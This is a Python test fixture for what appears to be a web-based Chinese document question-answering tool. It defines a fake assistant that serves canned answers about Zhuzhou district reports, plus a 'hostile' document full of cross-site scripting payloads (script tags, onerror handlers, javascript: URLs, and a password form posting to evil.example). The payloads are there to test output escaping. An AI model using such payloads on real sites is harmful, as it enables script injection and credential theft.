"""A small computable assistant behind the page's port; `python tests/web/fake_assistant.py` serves it for the eye."""

from __future__ import annotations

import dataclasses
import datetime as dt
import sys
import time
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parents[2]))

from rag.errors import IndexDamagedError, QuestionError
from rag.language.figures import parse_figures
from rag.records import (
    EVERYTHING,
    Aim,
    Answer,
    AnswerStatus,
    Aspect,
    Card,
    Chunk,
    Citation,
    Composer,
    Composition,
    Difference,
    Document,
    FigureRecord,
    Growing,
    Overview,
    Passage,
    Sought,
    Suspicion,
    Times,
    Verdict,
    VerdictLabel,
    Within,
)

TIANYUAN = Document(
    id="tianyuan-2021",
    title="培育制造名城 建设幸福株洲——县市区两会特别报道·天元篇",
    publisher="株洲日报",
    published_on=dt.date(2021, 10, 28),
    places=("天元区",),
    inferred=("published_on",),
    text="""# 培育制造名城 建设幸福株洲
## ——县市区两会特别报道·天元篇
五年是节点，更是新的开始。10月27日，天元区第六届人民代表大会第一次全体会议召开。站在“两个一百年”历史交汇的关键节点上，这次会议的意义不言而喻。
### 回顾篇
这是一份关于速度的答卷——
过去五年，天元区紧扣发展要务，扩总量、提质量，综合实力实现跨越提升。高新区综合实力在全国169家国家级高新区排名第34位，在全省134家省级以上园区排名第2位。天元区地区生产总值总量跃升至全市第2位；一般公共预算收入、地方收入总量连续五年保持全市第1位。
### 聚焦1 产业发展
#### 在打造国家重要先进制造业高地中勇当主力军
##### 【报告点击】
在打造国家重要先进制造业高地中勇当主力军，把先进制造业作为立区之本，坚定不移强产业、育企业、兴园区。
##### 【具体举措】
- 全力打造以新能源汽车、新能源装备为主导，以新材料、电子信息为特色的“2+2”产业集群。
- 大力发展生物医药和健康食品、绿色环保等战略性新兴产业。
- 支持时代新材、中车株机、中车株所等头部企业发展，不断拉长链条、提升价值。
### 聚焦7 民生优先
##### 【具体举措】
- 统筹做好高校毕业生、退役军人、失地农民等重点群体就业，力争实现零就业家庭动态援助率达到100%。
- 完善社会保障体系，实施全民参保，加快社保、医保扩面提标。
- 精准落实临时救助、托底救助，让更多需要救助的群体及时得到帮助。""",
)
SHIFENG = Document(
    id="shifeng-2021",
    title="县市区两会特别报道·石峰篇",
    text="""更“高”
加快构建现代产业体系
聚焦壮大主导产业。该区将厚植产业优势，加快打造国际领先的轨道交通装备制造产业集群，力争到2025年，全区轨道交通装备制造制造业产值突破千亿元大关。
裂变培育新增长极。积极抢占新兴产业、未来产业先机，着力打造功率半导体、永磁动力等一批百亿增长极。""",
)
HOSTILE_TEXT = (
    "<img src=http://evil.example/a.png onerror=window.XSS=1> <script>window.XSS=2</script> ${window.XSS=3} {{value}} "
    "</mark><iframe srcdoc='<script>parent.XSS=4</script>'></iframe> [x](javascript:window.XSS=5) "
    "![p](http://evil.example/b.png) <form action=//evil.example><input type=password></form> http://evil.example/c"
)
HOSTILE = Document(
    id="hostile",
    title="<b onmouseover=window.XSS=6>注入</b>\"'",
    publisher="<script>window.XSS=7</script>",
    url="javascript:window.XSS=8",
    text=f"### {HOSTILE_TEXT}\n- {HOSTILE_TEXT}\n{HOSTILE_TEXT}",
)

RANK = "高新区综合实力在全国169家国家级高新区排名第34位，在全省134家省级以上园区排名第2位。"
GDP = "天元区地区生产总值总量跃升至全市第2位；"
JOBS = "力争实现零就业家庭动态援助率达到100%。"
RAIL = "力争到2025年，全区轨道交通装备制造制造业产值突破千亿元大关。"


def cite(document: Document, quote: str, marker: int, path: tuple[str, ...] = ()) -> Citation:
    """The citation of the quote's first place in the document."""
    start = document.text.index(quote)
    return Citation(
        marker=marker,
        document_id=document.id,
        title=document.title,
        publisher=document.publisher,
        published_on=document.published_on,
        heading_path=path,
        start=start,
        end=start + len(quote),
        quote=quote,
    )


def record(document: Document, sentence: str, figure: str, indicator: str, aim: Aim) -> FigureRecord:
    """The record of the first figure of the sentence that is printed so."""
    start = document.text.index(sentence)
    found = next(f for f in parse_figures(document.text[start : start + len(sentence)]) if f.text == figure)
    moved = dataclasses.replace(found, start=start + found.start, end=start + found.end)
    return FigureRecord(
        document_id=document.id,
        places=document.places or ("石峰区",),
        subject="",
        indicator=indicator,
        figure=moved,
        years=(2021,),
        part=None,
        span="past5" if aim is Aim.ACHIEVED else "next5",
        aim=aim,
        start=start,
        end=start + len(sentence),
    )


#: As the assistant hands them out; the last one's indicator is an attack.
FIGURES = [
    record(TIANYUAN, RANK, "第34位", "高新区综合实力排名", Aim.ACHIEVED),
    record(TIANYUAN, GDP, "第2位", "地区生产总值总量", Aim.ACHIEVED),
    record(TIANYUAN, JOBS, "100%", "零就业家庭动态援助率", Aim.TARGET),
    record(TIANYUAN, GDP, "第2位", HOSTILE_TEXT, Aim.ACHIEVED),
]


def fits(one: FigureRecord, sought: Sought) -> bool:
    """Whether a figure is what is sought; periods are not weighed but for 目标."""
    return (
        all(place in "".join(one.places) for place in sought.places)
        and sought.indicator in one.indicator
        and sought.letters in one.indicator
        and ("目标" not in sought.periods or one.aim is Aim.TARGET)
    )


def occurring(records: Sequence[FigureRecord]) -> tuple[frozenset[str], frozenset[Times]]:
    """The places and times of some figures."""
    times = frozenset(Times(years=one.years, part=one.part, span=one.span) for one in records)
    return frozenset(place for one in records for place in one.places), times


def card_of(document: Document, suspicions: Sequence[Suspicion] = ()) -> Card:
    """The card of a report."""
    mine = [one for one in FIGURES if one.document_id == document.id]
    years = [year for one in mine for year in one.years]
    return Card(
        document=dataclasses.replace(document, text=""),
        characters=len(document.text),
        pages=len(document.pages),
        sections=sum(line.startswith("#") for line in document.text.split("\n")),
        figures=len(mine),
        figure_years=(min(years), max(years)) if years else (),
        suspicions=len(suspicions),
    )


def overview_of(documents: Sequence[Document]) -> Overview:
    """The numbers of some reports."""
    days = sorted(one.published_on for one in documents if one.published_on)
    places = Counter(place for one in documents for place in one.places)
    return Overview(
        documents=len(documents),
        places=tuple(places.most_common()),
        days=(days[0], days[-1]) if days else (),
        inferred_days=sum(bool(one.published_on) and "published_on" in one.inferred for one in documents),
        undated=len(documents) - len(days),
    )


class FakeAssistant:
    """Answers by keyword from three documents; `asked` keeps what it was called with."""

    def __init__(self, documents: Sequence[Document] = (TIANYUAN, SHIFENG, HOSTILE)) -> None:
        self.reports = {document.id: document for document in documents}
        self.asked: list[tuple[str, tuple[str, ...]]] = []

    def document(self, document_id: str) -> Document | None:
        """The report with this id."""
        return self.reports.get(document_id)

    def ids(self) -> list[str]:
        """Of all reports."""
        return list(self.reports)

    def card(self, document_id: str) -> Card | None:
        """Of one report."""
        document = self.reports.get(document_id)
        return card_of(document, self.suspicions_of(document_id)) if document else None

    def cards(self, words: str = "", first: int = 0, count: int = 30) -> tuple[list[Card], int]:
        """As the catalogue of an index gives them."""
        wanted = words.lower().split()
        found = [
            card_of(document, self.suspicions_of(document.id))
            for document in self.reports.values()
            if all(
                word in " ".join([document.title, document.publisher or "", *document.places]).lower()
                for word in wanted
            )
        ]
        return found[first : first + count], len(found)

    def overview(self) -> Overview:
        """Of all reports."""
        return overview_of(list(self.reports.values()))

    build = "20211028T120000Z-abcd"
    model = ""

    def figures(
        self, place: str = "", indicator: str = "", period: str = "", most: int | None = None
    ) -> list[FigureRecord]:
        """Those of the place and with the indicator's words; `period` is not weighed but for 目标."""
        return [
            one
            for one in FIGURES
            if (not place or place in "".join(one.places))
            and (not indicator or indicator in one.indicator)
            and (period != "目标" or one.aim is Aim.TARGET)
        ][:most]

    def each_figure(self, *sought: Sought) -> Iterator[FigureRecord]:
        """Those of the place, with the indicator's words or the letters."""
        for one in FIGURES:
            if any(fits(one, way) for way in sought):
                yield one

    def figures_occurring(self) -> tuple[frozenset[str], frozenset[Times]]:
        """Of all figures."""
        return occurring(FIGURES)

    def suspicions_of(self, document_id: str) -> tuple[Suspicion, ...]:
        """One, in the second report."""
        if document_id != SHIFENG.id:
            return ()
        start = SHIFENG.text.index("制造制造业")
        found = Suspicion(
            document_id=SHIFENG.id,
            kind="doubled word",
            reason="同一个词连印两次：制造制造",
            start=start,
            end=start + 5,
            quote="制造制造业",
        )
        return (found,)

    def search(self, question: str, count: int = 20, within: Within = EVERYTHING) -> list[Passage]:
        """Every paragraph that holds the question's words."""
        found: list[Passage] = []
        for document in self.reports.values():
            at = 0
            for line in document.text.split("\n"):
                if question in line:
                    chunk = Chunk(
                        document_id=document.id,
                        ordinal=len(found),
                        heading_path=(document.title,),
                        start=at,
                        end=at + len(line),
                        text=line,
                    )
                    found.append(Passage(chunk=chunk, score=0.5, rank=len(found) + 1))
                at += len(line) + 1
        return found[:count]

    draft_limit = 20_000

    def check(self, draft: str) -> tuple[Verdict, ...]:
        """All of them."""
        return tuple(self.check_each(draft))

    def check_each(self, draft: str) -> Iterator[Verdict]:
        """A verdict a line: 34 is right, 43 is wrong, 注入 is hostile evidence, anything else is not found.

        A line of 断 fails when its turn comes, a line of 无 alone says nothing checkable, and 慢 takes a while.
        """
        if not draft.strip():
            raise QuestionError("请先输入要核查的内容。 / Please paste a claim first.")
        if len(draft) > self.draft_limit:
            raise QuestionError("内容太长，请分段核查。 / Too long; please check it in parts.")
        if "崩溃" in draft:
            raise IndexDamagedError("a file of the index does not match its checksum")
        return self._checked(draft)

    def _checked(self, draft: str) -> Iterator[Verdict]:
        at = 0
        for line in draft.split("\n"):
            if "断" in line:
                raise IndexDamagedError("a file of the index does not match its checksum")
            time.sleep(0.3 if "慢" in line else 0)
            if line.strip() not in ("", "无"):
                yield _verdict(line, at)
            at += len(line) + 1

    def answerable(self, question: str, within: Within = EVERYTHING) -> bool:
        """Whether it answers."""
        return self.first(question, (), within).status is AnswerStatus.ANSWERED

    def first(self, question: str, history: Sequence[str] = (), within: Within = EVERYTHING) -> Answer:
        """Without a model."""
        found = self._extractive(question, history) if "改写" in question else self.ask(question, history)
        return self._held(found, within)

    #: Seconds between two sentences of the model.
    pause = 1.0

    def ask_each(self, question: str, history: Sequence[str] = (), within: Within = EVERYTHING) -> Iterator[Growing]:
        """改写 is put into other words in three steps; 改写失败 breaks off, 改写未采用 comes to nothing.

        `closed` counts those that were not waited for to the end.
        """
        if "改写" not in question:
            return iter([Growing(answer=self._held(self.ask(question, history), within), done=True)])
        return self._rewritten(self._held(self._extractive(question, history), within))

    def _held(self, answer: Answer, within: Within) -> Answer:
        """The answer, or none where it rests on a report that does not fit."""
        cited = [self.reports[one.document_id] for one in answer.citations if one.document_id in self.reports]
        if not all(in_limits(document, within) for document in cited):
            answer = self._not_found(answer.question)
        return dataclasses.replace(answer, within=within)

    closed = 0

    def _rewritten(self, answer: Answer) -> Iterator[Growing]:
        try:
            yield Growing(answer=answer)
            for beneath in model_said(answer):
                time.sleep(self.pause)
                if "失败" in answer.question:
                    raise ConnectionError("the model is gone")
                yield Growing(answer=answer, beneath=beneath)
            time.sleep(self.pause)
            told = Composition(model="fake", sentences=3, passed=3, first_seconds=0.1, seconds=0.4)
            if "未采用" in answer.question:
                note = "以上是报告原话；语言模型的改写与原文对不上，没有采用。"
                yield Growing(answer=dataclasses.replace(answer, notes=(note,), composition=told), done=True)
            else:
                yield Growing(answer=dataclasses.replace(beneath, composition=told), done=True)
        except GeneratorExit:
            self.closed += 1
            raise

    def ask(self, question: str, history: Sequence[str] = (), within: Within = EVERYTHING) -> Answer:
        """One of a few canned answers; what a model rewrites is waited for."""
        if "改写" in question:
            *_, last = self.ask_each(question, history)
            return last.answer
        return self._extractive(question, history)

    def _extractive(self, question: str, history: Sequence[str] = ()) -> Answer:
        self.asked.append((question, tuple(history)))
        if not question.strip():
            raise QuestionError("请先输入问题。 / Please type a question first.")
        if len(question) > 500:
            raise QuestionError("问题太长，请不要超过500字。 / Please keep it under 500 characters.")
        if "崩溃" in question:
            raise IndexDamagedError("a file of the index does not match its checksum")
        if "慢" in question:
            time.sleep(4)
        if "注入" in question and "改写" not in question:
            return self._answer(question, HOSTILE_TEXT + "[1][9]", (cite(HOSTILE, HOSTILE_TEXT, 1, (HOSTILE_TEXT,)),))
        if "举措" in question:
            return self._answer(question, f"{JOBS}[1]", (cite(TIANYUAN, JOBS, 1),))
        if "那" in question:
            return self._answer(
                question, f"{RAIL}[1]", (cite(SHIFENG, RAIL, 1),), completed="石峰区的轨道交通装备产值目标是多少？"
            )
        if "排" in question or "rank" in question or "改写" in question:
            return self._ranked(question)
        return self._not_found(question)

    def _not_found(self, question: str) -> Answer:
        return Answer(
            question=question,
            completed_question=question,
            status=AnswerStatus.NOT_FOUND,
            text="已收录的报告里没有找到能回答这个问题的内容。\n可以换一种问法，或说明是哪个区、哪一年。",
            passages=tuple(self.search("综合实力")),
            suggestions=("高新区综合实力在全国排第几位？",),
        )

    def _ranked(self, question: str) -> Answer:
        citations = (
            cite(TIANYUAN, RANK, 1, ("培育制造名城 建设幸福株洲", "回顾篇")),
            cite(TIANYUAN, GDP, 2, ("培育制造名城 建设幸福株洲", "回顾篇")),
            cite(TIANYUAN, JOBS, 3, ("聚焦7 民生优先", "【具体举措】")),
            cite(SHIFENG, RAIL, 4),
        )
        text = f"{RANK}[1]{GDP}[2]\n民生和产业方面：\n- {JOBS}[3]\n- 石峰区{RAIL}[4]"
        return self._answer(question, text, citations, notes=("这份报告的日期据正文推断，排名可能已经变化。",))

    def _answer(
        self,
        question: str,
        text: str,
        citations: tuple[Citation, ...],
        *,
        completed: str = "",
        notes: tuple[str, ...] = (),
    ) -> Answer:
        return Answer(
            question=question,
            completed_question=completed or question,
            status=AnswerStatus.ANSWERED,
            text=text,
            citations=citations,
            suggestions=("那石峰区呢？", "天元区在民生方面有哪些举措？"),
            notes=notes,
        )


def in_limits(document: Document, within: Within) -> bool:
    """Whether a report is one of those that a question is held to."""
    day = document.published_on
    return (
        (not within.places or any(place in within.places for place in document.places))
        and (within.since is None or (day is not None and day >= within.since))
        and (within.until is None or (day is not None and day <= within.until))
    )


def model_said(answer: Answer) -> Iterator[Answer]:
    """What the model has said of `_ranked` after each of its sentences, with numbers of its own; 注入 is hostile."""
    path = ("培育制造名城 建设幸福株洲", "回顾篇")
    said = (
        ("天元区的生产总值总量升到了全市第2位。[1]", cite(TIANYUAN, GDP, 1, path)),
        ("高新区在全国169家国家级高新区里排第34位。[2]", cite(TIANYUAN, RANK, 2, path)),
        ("石峰区力争到2025年轨道交通装备制造业产值突破千亿元。[3]", cite(SHIFENG, RAIL, 3)),
    )
    if "注入" in answer.question:
        said = ((f"{HOSTILE_TEXT}[1][9]", cite(HOSTILE, HOSTILE_TEXT, 1, (HOSTILE_TEXT,))), *said[1:])
    for count in range(1, len(said) + 1):
        text = "".join(words for words, _ in said[:count])
        citations = tuple(citation for _, citation in said[:count])
        yield dataclasses.replace(answer, text=text, citations=citations, notes=(), composer=Composer.MODEL)


def _verdict(line: str, at: int) -> Verdict:
    given = {"claim": line, "start": at, "end": at + len(line)}
    if "注入" in line:
        citations = (cite(HOSTILE, HOSTILE_TEXT, 1, (HOSTILE_TEXT,)),)
        return Verdict(label=VerdictLabel.SUPPORTED, explanation=HOSTILE_TEXT, citations=citations, **given)
    if "34" in line:
        citations = (cite(TIANYUAN, RANK, 1, ("培育制造名城 建设幸福株洲", "回顾篇")),)
        return Verdict(
            label=VerdictLabel.SUPPORTED, explanation="报告里有这个数：第34位。", citations=citations, **given
        )
    if "43" in line:
        return Verdict(
            label=VerdictLabel.CONTRADICTED,
            explanation="报告里是第34位，不是第43位。",
            citations=(cite(TIANYUAN, RANK, 1, ("培育制造名城 建设幸福株洲", "回顾篇")),),
            differences=(Difference(aspect=Aspect.VALUE, claimed="第43位", reported="第34位"),),
            notes=("这份报告的日期据正文推断。",),
            **given,
        )
    return Verdict(label=VerdictLabel.NOT_FOUND, explanation="报告里没有查到这一条。", **given)


if __name__ == "__main__":
    import uvicorn

    from rag.config import Settings
    from rag.web.server import create_app
    from rag.web.serving.usage.feedback import Feedback

    given = Settings()
    uvicorn.run(create_app(FakeAssistant(), Feedback(given.feedback_file)), port=given.port)
